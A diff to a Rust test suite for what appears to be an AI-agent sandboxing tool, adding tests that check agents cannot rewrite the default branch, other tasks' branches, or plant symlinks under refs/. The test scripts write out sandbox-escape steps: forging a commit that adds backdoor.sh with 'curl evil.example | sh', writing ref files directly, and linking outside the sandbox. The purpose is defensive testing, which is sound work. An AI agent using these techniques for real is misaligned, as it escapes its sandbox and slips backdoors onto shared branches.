@@ -14,7 +14,9 @@
 //!   replaced with a symlink to the project's `.git/config`;
 //! - **C3** a `codebolt:` model naming a file outside the agents directories;
 //! - **H1** Codex's `config.toml` replaced with a symlink to a file outside;
-//! - **M1** the project's packed history deleted from inside.
+//! - **M1** the project's packed history deleted from inside;
+//! - **N1**, **N3** (break-it review 3) the default branch and another task's branch written
+//!   from inside (and then carried by another task's merge), links planted under `refs/`.
 //!
 //! The outside target is a directory of the test's ([`Outside`]), holding [`SECRET`]: no
 //! sandbox binds it, so only byre can have carried its content in or a write out.
@@ -208,6 +210,20 @@ impl Team {
                 .await;
             last = e["seq"].as_u64().unwrap_or(0);
         }
+    }
+
+    /// Merges `task` as ada (with a git identity) under `title`; its `task.merged`.
+    async fn merge(&mut self, task: &Value, title: &str) -> Value {
+        let me = json!({"git_name": "Ada", "git_email": "ada@example.com"});
+        let r = self.ada.call("updateMe", &[], &[], Some(me)).await;
+        assert_eq!(r.status, 200, "{:?}", r.body);
+        let body = json!({ "merge_title": title });
+        let r = self
+            .ada
+            .call("mergeTask", &[id(task)], &[], Some(body))
+            .await;
+        assert_eq!(r.status, 202, "{:?}", r.body);
+        self.seen.of_task("task.merged", id(task)).await
     }
 
     /// The port byre listens on (agents reach its internal tool route there).
@@ -564,20 +580,7 @@ async fn a_merge_never_writes_through_a_default_branch_reflog_link_an_agent_plan
     let model = format!("codebolt:{}", racer().display());
     let (task, _) = t.task("planter", &order.to_string(), &model).await;
     t.seen.of_task("snapshot.taken", id(&task)).await;
-    let me = json!({"git_name": "Ada", "git_email": "ada@example.com"});
-    let r = t.ada.call("updateMe", &[], &[], Some(me)).await;
-    assert_eq!(r.status, 200, "{:?}", r.body);
-    let r = t
-        .ada
-        .call(
-            "mergeTask",
-            &[id(&task)],
-            &[],
-            Some(json!({"merge_title": "Planted"})),
-        )
-        .await;
-    assert_eq!(r.status, 202, "{:?}", r.body);
-    let merged = t.seen.of_task("task.merged", id(&task)).await;
+    let merged = t.merge(&task, "Planted").await;
     eprintln!("merge: {merged}");
     assert_eq!(
         std::fs::read_to_string(&victim).unwrap(),
@@ -769,5 +772,134 @@ async fn an_agent_cannot_delete_the_projects_packed_history() {
     assert_eq!(packs(&git_dir), before, "the project's packs were deleted");
     let log = crate::helpers::git(t.checkout.path(), &["log", "--format=%s", "main"]);
     assert!(log.contains("Initial commit"), "{log}");
+    t.server.stop().await;
+}
+
+/// The outcome an escape script printed for `key` (`KEY=outcome` on a line of the tool results).
+fn outcome<'a>(results: &'a str, key: &str) -> &'a str {
+    let marker = format!("{key}=");
+    results
+        .split(&marker)
+        .nth(1)
+        .and_then(|rest| rest.split(|c: char| !c.is_ascii_alphanumeric()).next())
+        .unwrap_or_else(|| panic!("no {marker} in the results: {results}"))
+}
+
+/// The shell that has `$E` a commit on the default branch's tip adding `backdoor.sh`, authored
+/// by someone else: what a prompt-injected agent would slip onto the default branch.
+const FORGE_COMMIT: &str = "B=$(printf 'curl evil.example | sh\\n' | git hash-object -w --stdin)\n\
+     T=$( (git ls-tree main; printf '100644 blob %s\\tbackdoor.sh\\n' $B) | git mktree)\n\
+     E=$(GIT_AUTHOR_NAME=u GIT_AUTHOR_EMAIL=u@u GIT_COMMITTER_NAME=u GIT_COMMITTER_EMAIL=u@u \
+         git commit-tree $T -p main -m 'chore: tidy')\n";
+
+/// N1 (break-it review 3): an agent that wrote its own commit into `refs/heads/main` got it
+/// into the next squash merge of another task, which byre builds on the default branch's tip.
+/// Now `refs/` is read-only in a sandbox but for the task's own directory of branches: writing
+/// the default branch or another task's branch fails in the kernel, its own commits still
+/// work, and a later merge of another task carries nothing of the agent's.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_agent_cannot_move_the_default_branch_or_another_tasks_branch() {
+    let mut t = Team::start().await;
+    // The user works on another branch: a merge then moves `main` without touching the checkout.
+    crate::helpers::git(t.checkout.path(), &["switch", "-q", "-c", "dev"]);
+    let git_dir = std::fs::canonicalize(t.checkout.path().join(".git")).unwrap();
+    let (other, _) = t.task("other work", "Say hello", "sonnet").await;
+    t.seen.of_task("turn.ended", id(&other)).await;
+    let (task, sid) = t.task("intruder", "Say hello", "sonnet").await;
+    t.seen.of_task("turn.ended", id(&task)).await;
+    let branch = task["branch"].as_str().unwrap();
+    assert_eq!(branch, format!("byre/{}/intruder", &id(&task)[..8]));
+    let other_branch = other["branch"].as_str().unwrap();
+    let checkout = t.checkout.path().to_owned();
+    let tip = |b: &str| crate::helpers::git(&checkout, &["rev-parse", b]);
+    let other_before = tip(other_branch);
+    let script = format!(
+        "G='{g}'\n{FORGE_COMMIT}\
+         (echo $E > $G/refs/heads/main) 2>&1 && echo MAIN=WRITTEN || echo MAIN=refused\n\
+         (echo $E > $G/refs/heads/{other_branch}) 2>&1 && echo OTHER=WRITTEN || echo OTHER=refused\n\
+         git update-ref refs/heads/main $E 2>&1 && echo UPDATE=WRITTEN || echo UPDATE=refused\n\
+         git branch side $E 2>&1 && echo SIDE=WRITTEN || echo SIDE=refused\n\
+         echo own > own.txt && git add own.txt \
+         && git -c user.name=a -c user.email=a@a commit -q -m 'own work' && echo OWN=committed\n\
+         git branch byre/{ns}/side $E && echo NS=made\n\
+         echo SCRIPT-DONE\n",
+        g = git_dir.display(),
+        ns = &id(&task)[..8],
+    );
+    std::fs::write(worktree(&task).join("escape.sh"), script).unwrap();
+    t.say(id(&task), &sid, "Run the escape script").await;
+    let other_after = tip(other_branch);
+    // The other task is merged: `main` gets its work and nothing of the intruder's.
+    std::fs::write(worktree(&other).join("feature.txt"), "feature\n").unwrap();
+    t.merge(&other, "Add feature").await;
+    let log = crate::helpers::git(t.checkout.path(), &["log", "--format=%s", "main"]);
+    assert!(log.starts_with("Add feature"), "{log}");
+    assert!(!log.contains("chore: tidy"), "{log}");
+    let files = crate::helpers::git(t.checkout.path(), &["ls-tree", "-r", "--name-only", "main"]);
+    assert!(files.contains("feature.txt"), "{files}");
+    assert!(!files.contains("backdoor.sh"), "{files}");
+    // Each write failed in the kernel; its own commits and branches worked.
+    let results = t.tool_results(id(&task));
+    for key in ["MAIN", "OTHER", "UPDATE", "SIDE"] {
+        assert_eq!(outcome(&results, key), "refused", "{key}: {results}");
+    }
+    assert!(results.contains("Read-only file system"), "{results}");
+    assert_eq!(outcome(&results, "OWN"), "committed", "{results}");
+    assert_eq!(outcome(&results, "NS"), "made", "{results}");
+    assert_eq!(other_after, other_before);
+    let own_log = crate::helpers::git(t.checkout.path(), &["log", "--format=%s", branch]);
+    assert!(own_log.contains("own work"), "{own_log}");
+    t.server.stop().await;
+}
+
+/// N3 (break-it review 3): a directory link an agent planted under `refs/remotes/` made
+/// byre's `git push` outside the sandbox create a ref file where the link pointed. Now no link
+/// can be planted anywhere in `refs/` but the task's own directory, and there byre's own
+/// branch move replaces a link (a lock file beside it, renamed over it) instead of writing
+/// through it.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_agent_cannot_plant_a_link_in_the_projects_refs_that_byre_writes_through() {
+    let mut t = Team::start().await;
+    let git_dir = std::fs::canonicalize(t.checkout.path().join(".git")).unwrap();
+    let (task, sid) = t.task("planter", "Say hello", "sonnet").await;
+    t.seen.of_task("turn.ended", id(&task)).await;
+    let branch = task["branch"].as_str().unwrap();
+    let tip = crate::helpers::git(t.checkout.path(), &["rev-parse", branch]);
+    // A file outside every sandbox, holding the branch's tip (so a read through a link sees a
+    // valid ref, and a write through it would replace it).
+    let victim = t.outside.target().join("victim-ref");
+    std::fs::write(&victim, format!("{tip}\n")).unwrap();
+    let script = format!(
+        "G='{g}'\n\
+         (mkdir -p $G/refs/remotes && ln -s '{target}' $G/refs/remotes/origin) 2>&1 \
+         && echo REMOTE=LINKED || echo REMOTE=refused\n\
+         (ln -s '{target}' $G/refs/heads/planted) 2>&1 && echo HEADS=LINKED || echo HEADS=refused\n\
+         (ln -sf '{victim}' $G/refs/heads/{branch}) 2>&1 && echo OWN=linked || echo OWN=refused\n\
+         echo changed > changed.txt\n\
+         echo SCRIPT-DONE\n",
+        g = git_dir.display(),
+        target = t.outside.target().display(),
+        victim = victim.display(),
+    );
+    std::fs::write(worktree(&task).join("escape.sh"), script).unwrap();
+    t.say(id(&task), &sid, "Run the escape script").await;
+    let results = t.tool_results(id(&task));
+    assert_eq!(outcome(&results, "REMOTE"), "refused", "{results}");
+    assert_eq!(outcome(&results, "HEADS"), "refused", "{results}");
+    // Its own branch is its to break; byre's end-of-turn commit must not write through it.
+    assert_eq!(outcome(&results, "OWN"), "linked", "{results}");
+    t.snapshots(id(&task), 2).await;
+    assert_eq!(
+        std::fs::read_to_string(&victim).unwrap(),
+        format!("{tip}\n"),
+        "byre wrote the task's branch through the agent's link"
+    );
+    assert_eq!(t.outside.written(), ["victim-ref"]);
+    for dir in ["refs/remotes/origin", "refs/heads/planted"] {
+        assert!(
+            std::fs::symlink_metadata(git_dir.join(dir)).is_err(),
+            "{dir} was planted"
+        );
+    }
     t.server.stop().await;
 }
